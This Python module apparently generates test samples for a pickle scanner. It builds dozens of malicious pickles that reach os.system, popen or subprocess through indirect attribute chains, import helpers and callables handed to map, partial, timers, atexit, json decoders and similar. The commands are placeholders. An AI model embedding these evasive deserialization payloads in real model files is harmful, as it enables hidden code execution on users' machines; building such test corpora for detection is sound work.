"""Pickles that reach what is dangerous through something else: chains of attributes, import functions, and callables
that are handed to others to call."""

from collections.abc import Iterator

from .assemble import Build, Call, New, Ref, method, planted, written
from .sample import COMMAND, MARKER, Sample

__all__ = ["samples"]

OS = Call("importlib.import_module", "os")
SYSTEM = Ref("posix.system")


def _attribute(path: str, owner: object) -> Call:
    return Call(Call("operator.attrgetter", path), owner)


def _chains() -> Iterator[tuple[str, object]]:
    yield "getattr of import_module", Call(Call("builtins.getattr", OS, "system"), COMMAND)
    yield "methodcaller on import_module", method(OS, "system", COMMAND)
    logging = Call("importlib.import_module", "logging")
    yield "attrgetter through logging", Call(_attribute("os.system", logging), COMMAND)
    yield "dotted name through random", Call(Ref("random", "_os.system"), COMMAND)
    yield "dotted name through numpy", Call(Ref("numpy.lib._npyio_impl", "os.system"), COMMAND)
    yield "dotted name through joblib", Call(Ref("joblib.parallel", "os.popen"), COMMAND)
    yield "sys.modules.get", method(Call(Ref("sys", "modules.get"), "posix"), "system", COMMAND)
    yield "pkgutil.resolve_name", Call(Call("pkgutil.resolve_name", "os:system"), COMMAND)
    yield "builtins.__import__", Call(Call("builtins.getattr", Call("builtins.__import__", "os"), "popen"), COMMAND)
    yield "vars of a module", Call(Call(Call("operator.itemgetter", "system"), Call("builtins.vars", OS)), COMMAND)
    globals_of = _attribute("__globals__.__getitem__", Ref("shutil.copy"))
    yield "__globals__ of a function", method(Call(globals_of, "os"), "system", COMMAND)
    init = _attribute("__init__.__globals__.__getitem__", Ref("os._wrap_close"))
    yield "__globals__ of a constructor", Call(Call(init, "system"), COMMAND)
    yield "inspect.getattr_static", Call(Call("inspect.getattr_static", OS, "system"), COMMAND)
    found = Call("importlib.util.module_from_spec", Call("importlib.util.find_spec", "posix"))
    yield "importlib.util by spec", method(found, "system", COMMAND)
    yield (
        "logging.config's resolver",
        Call(method(Call("logging.config.BaseConfigurator", {}), "resolve", "os.system"), COMMAND),
    )
    helped = Call("test.support.import_helper.import_module", "os")
    yield "test.support.import_helper", method(helped, "system", COMMAND)
    yield "a module as an attribute of another", Call(Call("builtins.getattr", Ref("shutil.os"), "system"), COMMAND)
    yield "bound method of a loader", method(Call("_frozen_importlib._gcd_import", "posix"), "system", COMMAND)
    yield "object.__getattribute__", Call(Call(Ref("builtins", "object.__getattribute__"), OS, "system"), COMMAND)
    modules = Ref("enum", "sys.modules.__getitem__")
    yield "sys.modules through enum", method(Call(modules, "os"), "system", COMMAND)
    yield "importlib.__import__", method(Call("importlib.__import__", "subprocess"), "getoutput", COMMAND)


def _handed() -> Iterator[tuple[str, object]]:
    yield "map", Call("builtins.list", Call("builtins.map", SYSTEM, [COMMAND]))
    yield "map made by NEWOBJ", Call("builtins.tuple", New("builtins.map", SYSTEM, [COMMAND]))
    yield "filter into bytes", Call("builtins.bytes", Call("builtins.filter", SYSTEM, [COMMAND]))
    yield "functools.partial", Call(Call("functools.partial", SYSTEM, COMMAND))
    yield "functools.reduce", Call(Call("functools.reduce", Ref("builtins.getattr"), ["system"], OS), COMMAND)
    yield "itertools.starmap", Call("builtins.list", Call("itertools.starmap", SYSTEM, [(COMMAND,)]))
    yield "heapq with a key", Call("heapq.nlargest", 1, [COMMAND, "true"], SYSTEM)
    yield "operator.call", Call("operator.call", SYSTEM, COMMAND)
    factory = Call("functools.partial", SYSTEM, COMMAND)
    yield "defaultdict's factory", method(Call("collections.defaultdict", factory), "__missing__", "x")
    yield "threading.Timer", method(Call("threading.Timer", 0, SYSTEM, [COMMAND]), "run")
    yield "atexit.register", planted(Call("atexit.register", SYSTEM, COMMAND), {"w": [1.0]})
    yield "weakref.finalize", Call("weakref.finalize", Ref("collections.OrderedDict"), SYSTEM, COMMAND)
    yield "a thread pool", method(Call("concurrent.futures.ThreadPoolExecutor", 1), "submit", SYSTEM, COMMAND)
    empty = Call("copyreg._reconstructor", Ref("subprocess.Popen"), Ref("builtins.object"), None)
    yield "copyreg._reconstructor of a Popen", method(empty, "__init__", ["touch", MARKER])
    yield (
        "multiprocessing.pool.ThreadPool's initializer",
        Call("multiprocessing.pool.ThreadPool", 1, SYSTEM, (COMMAND,)),
    )
    timed = Call("timeit.Timer", Call("functools.partial", SYSTEM, COMMAND))
    yield "timeit.Timer of a partial", method(timed, "timeit", 1)
    yield "functools.cached_property", method(Call("functools.cached_property", SYSTEM), "func", COMMAND)
    decoder = Ref("json.JSONDecoder")
    named = Build(New("functools.partial", decoder), (decoder, (), {"parse_constant": SYSTEM}, None))
    yield "json's parse_constant", method(Call(named), "decode", "[NaN]")
    worded = Build(New("functools.partial", SYSTEM), (SYSTEM, (), {"command": COMMAND}, None))
    yield "keyword arguments in a partial's state", Call(worded)


def samples() -> Iterator[Sample]:
    for name, value in _chains():
        yield Sample("pickle: chain of attributes", name, {"classifier.pkl": written(value)}, proof="pickle")
    for name, value in _handed():
        yield Sample("pickle: callable handed on", name, {"classifier.pkl": written(value)}, proof="pickle")
